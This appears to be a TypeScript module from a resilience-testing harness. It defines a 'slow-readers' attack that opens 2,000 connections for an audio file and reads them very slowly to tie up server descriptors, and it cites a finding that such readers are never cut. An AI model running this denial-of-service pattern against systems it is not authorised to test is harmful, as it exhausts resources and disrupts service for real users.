import type { Attack } from '../attack';
import { gather } from '../means/crowd';

/** So many bytes a second does each reader take. */
const BYTES = 512;

/** Readers that take an audio file drop by drop. */
export const slowReaders: Attack = {
  name: 'slow-readers',
  finding: '9: slow readers of audio are never cut (2,000 held 4,000 descriptors, 300 MB)',
  addresses: 100,
  run: (context, signal) =>
    gather(
      context,
      {
        size: 2_000,
        perSec: 400,
        greet: (socket) => {
          socket.on('readable', () => undefined); // it is read from only when prodded
          socket.write(`GET ${context.audioPath} HTTP/1.1\r\nHost: loa\r\n\r\n`);
        },
        prod: { everyMs: 1_000, act: (socket) => void socket.read(BYTES) },
      },
      signal,
    ),
};
